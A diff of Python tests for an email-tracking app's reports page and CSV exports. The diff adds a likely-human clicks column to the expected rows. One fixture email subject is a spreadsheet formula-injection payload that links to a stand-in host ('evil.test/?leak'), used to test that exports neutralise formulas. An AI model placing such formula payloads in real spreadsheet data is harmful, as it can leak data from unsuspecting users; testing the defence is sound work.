@@ -130,7 +130,8 @@ def test_the_emails_page_shows_the_same_numbers_linked_to_each_email(staff, data
     rows = [[cell.text.strip() for cell in row.select("td")] for row in page.html.select("table tbody tr")]
     # Each rate names its base; no recipient is unmeasured and no anonymous load was counted.
     assert rows[2] == ["Spring launch", "sam", "2026-03-02 09:00", "4", "3", "3", "2", "66.7% of 3 measured recipients",
-                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "2026-03-04 08:00", "0", "0", "0", "0"]
+                       "2", "66.7% of 3 measured recipients", "4", "4", "0", "0", "2026-03-04 08:00", "0", "0", "0",
+                       "0"]
     assert page.html.select("table tbody tr")[2].select_one("a")["href"] == f"/emails/{data.emails['e1'].id}"
     assert page.html.select_one("th[aria-sort]").text.strip() == "Sent at ▼"
 
@@ -384,13 +385,13 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
     assert response.body == (
         '\ufeff"Subject","Sender","Sent at (UTC)","Recipients","Delivered","Measured recipients","Opened",'
         '"Open rate (% of measured)","Loaded the image","Load rate (% of measured)","Accesses","Likely-human opens",'
-        '"Clicks","Last access (UTC)","Unmeasured recipients","Anonymous loads","Anonymous likely-human loads",'
-        '"Anonymous clicks"\r\n'
-        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0",'
+        '"Clicks","Likely-human clicks","Last access (UTC)","Unmeasured recipients","Anonymous loads",'
+        '"Anonymous likely-human loads","Anonymous clicks"\r\n'
+        '"Spring launch","sam","2026-03-02 09:00:00","4","3","3","2","66.7","2","66.7","4","4","0","0",'
         '"2026-03-04 08:00:00","0","0","0","0"\r\n'
         '"\'=HYPERLINK(""http://evil.test/?leak"",""Click"")","admin","2026-03-03 15:00:00","2","2","2","2","100.0",'
-        '"2","100.0","3","3","0","2026-03-05 10:00:00","0","0","0","0"\r\n'
-        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0",'
+        '"2","100.0","3","3","0","0","2026-03-05 10:00:00","0","0","0","0"\r\n'
+        '"Spring follow-up","tess","2026-03-05 08:00:00","2","1","1","1","100.0","1","100.0","1","1","0","0",'
         '"2026-03-05 09:30:00","0","0","0","0"\r\n'
     ).encode("utf-8")
 
@@ -398,17 +399,17 @@ def test_the_emails_csv_is_rfc_4180_utf8_with_formulas_neutralised(staff, data):
 def test_the_csv_export_takes_the_same_filters_as_the_page(staff, data):
     body = staff.get("/reports/records.csv", params={"record_type": "account"}).body
     assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
-        ["Record", "Measured emails", "Opened", "Loaded the image", "Accesses", "Likely-human opens",
-         "Last access (UTC)"],
-        ["Acme <Corp>", "2", "2", "2", "5", "5", "2026-03-05 09:30:00"],
-        ["Globex", "1", "1", "1", "2", "2", "2026-03-05 09:00:00"],
+        ["Record", "Measured emails", "Opened", "Loaded the image", "Accesses", "Likely-human opens", "Clicks",
+         "Likely-human clicks", "Last access (UTC)"],
+        ["Acme <Corp>", "2", "2", "2", "5", "5", "0", "0", "2026-03-05 09:30:00"],
+        ["Globex", "1", "1", "1", "2", "2", "0", "0", "2026-03-05 09:00:00"],
     ]
     recipients = list(csv.reader(io.StringIO(
         staff.get("/reports/recipients.csv", params={"status": "failed"}).body.decode("utf-8-sig"))))
     assert recipients == [
         ["Email", "Address", "Record type", "Related record", "Status", "Reading measured", "Accesses",
-         "Likely-human opens", "Clicks", "First access (UTC)", "Last access (UTC)"],
-        ["Spring launch", "x@nowhere.test", "", "", "failed", "yes", "0", "0", "0", "", ""],
+         "Likely-human opens", "Clicks", "Likely-human clicks", "First access (UTC)", "Last access (UTC)"],
+        ["Spring launch", "x@nowhere.test", "", "", "failed", "yes", "0", "0", "0", "0", "", ""],
     ]
     activity = staff.get("/reports/activity.csv", params={**WEEK, "sender": "admin"}).body.decode("utf-8-sig")
     assert list(csv.reader(io.StringIO(activity)))[:4] == [
